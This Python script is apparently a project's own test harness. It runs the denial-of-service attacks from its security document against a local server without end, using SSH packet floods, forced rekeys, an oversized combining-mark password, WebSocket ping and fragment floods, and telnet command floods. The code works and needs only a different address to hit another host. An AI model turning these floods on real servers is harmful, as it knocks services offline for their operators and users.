"""Attackers for measurements: each attack of docs/security.md is a program that runs until you kill it.

Run this as a program with the kind of attack, the address to come from (127.0.0.2 and the like) and the server's ports:
ssh, page, MUD. If the server cuts an attacker off, the attacker reconnects at once, without end.
"""

from __future__ import annotations

import asyncio
import random
import sys
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from typing import NamedTuple

import asyncssh
from asyncssh.constants import MSG_DEBUG, MSG_GLOBAL_REQUEST, MSG_IGNORE, MSG_USERAUTH_REQUEST
from asyncssh.packet import Boolean, String

SERVER = "127.0.0.1"
MARKS = "".join(random.Random(1).choices("\u0301\u0316\u0345\u0334", k=126_000)).encode()
"""252 KB of text that take half a minute to normalize."""
PING = bytes([0x89, 0x80, 0, 0, 0, 0])
EMPTY_FRAGMENT = bytes([0x00, 0x80, 0, 0, 0, 0])
MOST_UNSENT = 1 << 20
"""The most bytes that an attacker has waiting for the server to read."""


class Target(NamedTuple):
    address: str
    ssh: int
    page: int
    mud: int

    async def connect(self, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(SERVER, port, local_addr=(self.address, 0))

    async def secure(self, **options: object) -> asyncssh.SSHClientConnection:
        said: Mapping[str, object] = {"username": "guest", "known_hosts": None, "config": None, "agent_path": None}
        given = {**said, "client_keys": None, "local_addr": (self.address, 0), **options}
        return await asyncssh.connect(SERVER, self.ssh, **given)


Attack = Callable[[Target], Awaitable[None]]


async def _flood(writer: asyncio.StreamWriter, data: bytes) -> None:
    while True:
        writer.write(data)
        await writer.drain()


async def _read_all(reader: asyncio.StreamReader) -> None:
    while await reader.read(1 << 16):
        pass


async def _flood_and_read(target: Target, port: int, data: bytes, first: bytes = b"") -> None:
    reader, writer = await target.connect(port)
    reading = asyncio.create_task(_read_all(reader))
    try:
        writer.write(first)
        await _flood(writer, data)
    finally:
        reading.cancel()
        writer.close()


async def _packets(target: Target, send: Callable[[asyncssh.SSHClientConnection], None]) -> None:
    async with await target.secure() as connection:
        transport = connection._transport
        while transport is not None and not transport.is_closing():
            for _ in range(100):
                send(connection)
            await asyncio.sleep(0)
            while transport.get_write_buffer_size() > MOST_UNSENT and not transport.is_closing():
                await asyncio.sleep(0.001)


async def flood_with_ignored(target: Target) -> None:
    await _packets(target, lambda connection: connection.send_packet(MSG_IGNORE, String(b"")))


async def flood_with_debug(target: Target) -> None:
    message = Boolean(False), String(b"x"), String(b"")
    await _packets(target, lambda connection: connection.send_packet(MSG_DEBUG, *message))


async def flood_with_requests(target: Target) -> None:
    request = String(b"x@y"), Boolean(False)
    await _packets(target, lambda connection: connection.send_packet(MSG_GLOBAL_REQUEST, *request))


class _Marking(asyncssh.SSHClient):
    """A client that sends a password of many combining marks as soon as the server asks for one."""

    def connection_made(self, conn: asyncssh.SSHClientConnection) -> None:
        self._conn = conn

    def password_auth_requested(self) -> str:
        head = String(b"mallory"), String(b"ssh-connection"), String(b"password")
        self._conn.send_packet(MSG_USERAUTH_REQUEST, *head, Boolean(False), String(MARKS))
        return "x"


async def send_marks(target: Target) -> None:
    async with await target.secure(username="mallory", client_factory=_Marking, preferred_auth=["password"]):
        pass


async def rekeyed(target: Target) -> None:
    async with await target.secure() as connection:
        while not connection.is_closed():
            if connection._kex_complete and not connection._kexinit_sent:
                connection._send_kexinit()
                connection._kexinit_sent = True
            await asyncio.sleep(0)


async def exchange_keys(target: Target) -> None:
    """Open a connection, exchange keys, and hang up, again and again."""
    async with await target.secure():
        pass


async def connect_client(target: Target) -> None:
    _, writer = await target.connect(random.choice(target[1:]))
    writer.transport.abort()


async def fetch_page(target: Target) -> None:
    reader, writer = await target.connect(target.page)
    writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    await reader.read()
    writer.close()


def _upgrade(target: Target) -> bytes:
    own = f"{SERVER}:{target.page}"
    key = "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    asks = f"GET /socket HTTP/1.1\r\nHost: {own}\r\nOrigin: http://{own}\r\nUpgrade: websocket\r\n"
    return f"{asks}Connection: Upgrade\r\n{key}\r\n".encode()


def _make_frame(text: bytes) -> bytes:
    return bytes([0x81, 0x80 | len(text), 0, 0, 0, 0]) + text


HELLO = _make_frame(b'{"hello":1,"languages":["en"],"seen":0}')


async def flood_with_pings(target: Target) -> None:
    await _flood_and_read(target, target.page, PING * 1000, _upgrade(target) + HELLO)


async def ping_slowly(target: Target) -> None:
    """Send 0.3 MB of pings a second, no more than a film."""
    reader, writer = await target.connect(target.page)
    reading = asyncio.create_task(_read_all(reader))
    try:
        writer.write(_upgrade(target) + HELLO)
        while True:
            writer.write(PING * 1000)
            await writer.drain()
            await asyncio.sleep(0.02)
    finally:
        reading.cancel()
        writer.close()


async def flood_with_fragments(target: Target) -> None:
    begun = bytes([0x01, 0x80, 0, 0, 0, 0])
    await _flood_and_read(target, target.page, EMPTY_FRAGMENT * 1000, _upgrade(target) + HELLO + begun)


async def send_malformed(target: Target) -> None:
    """Send malformed messages through the program's subsystem."""
    async with await target.secure() as connection:
        process = await connection.create_process(subsystem="moon-access", encoding=None)
        while True:
            process.stdin.write(b"[[[[\n" * 100)
            await process.stdin.drain()


async def flood_with_commands(target: Target) -> None:
    await _flood_and_read(target, target.mud, b"\xff\xfd\x63" * 1000)


async def encode_line(target: Target) -> None:
    await _flood_and_read(target, target.mud, b"x\r\n" * 1000)


KINDS: Mapping[str, tuple[Attack, int]] = {
    "a password of marks": (send_marks, 2),
    "ignored packets, one connection": (flood_with_ignored, 1),
    "ignored packets, five": (flood_with_ignored, 5),
    "debug packets, five": (flood_with_debug, 5),
    "requests of ssh, five": (flood_with_requests, 5),
    "new keys, five": (rekeyed, 5),
    "keys, then away": (exchange_keys, 5),
    "connections, then away": (connect_client, 5),
    "page requests": (fetch_page, 5),
    "pings, one connection": (flood_with_pings, 1),
    "pings, five": (flood_with_pings, 5),
    "slow pings, three": (ping_slowly, 3),
    "empty fragments, five": (flood_with_fragments, 5),
    "forged messages, five": (send_malformed, 5),
    "telnet commands, five": (flood_with_commands, 5),
    "telnet lines, five": (encode_line, 5),
}
"""Each attack, and the number of attackers that run it at the same time from one address."""


async def _again_and_again(attack: Attack, target: Target) -> None:
    while True:
        with suppress(OSError, asyncssh.Error, EOFError):
            await attack(target)
        await asyncio.sleep(0)


async def attack_for_ever(kinds: list[str], target: Target) -> None:
    await asyncio.gather(
        *(_again_and_again(attack, target) for kind in kinds for attack, many in [KINDS[kind]] for _ in range(many))
    )


def main() -> None:
    kind, address, *ports = sys.argv[1:]
    target = Target(address, *map(int, ports))
    print("ready", flush=True)
    with suppress(KeyboardInterrupt):
        asyncio.run(attack_for_ever(list(KINDS) if kind == "all" else [kind], target))


if __name__ == "__main__":
    main()
